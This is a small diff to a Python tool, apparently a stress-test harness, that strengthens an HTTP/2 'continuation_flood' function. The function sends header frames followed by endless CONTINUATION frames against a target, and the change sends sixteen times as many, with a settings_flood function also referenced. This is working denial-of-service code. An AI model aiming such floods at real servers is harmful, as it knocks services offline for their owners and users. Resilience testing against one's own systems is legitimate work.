@@ -278,7 +278,8 @@ def _flood(target: str, seconds: float, connections: int, first: bytes, more: by
 def continuation_flood(target: str, seconds: float, *, connections: int = 8) -> None:
     """Headers that never end."""
     first = _frame(1, 0, 1, _request(f"/{SERVICE}/Score".encode()))
-    _flood(target, seconds, connections, first, _frame(9, 0, 1, _header(b"x-a", b"v" * 40) * 300))
+    more = _frame(9, 0, 1, _header(b"x-a", b"v" * 40) * 300) * 16
+    _flood(target, seconds, connections, first, more)
 
 
 def settings_flood(target: str, seconds: float, *, connections: int = 8) -> None:
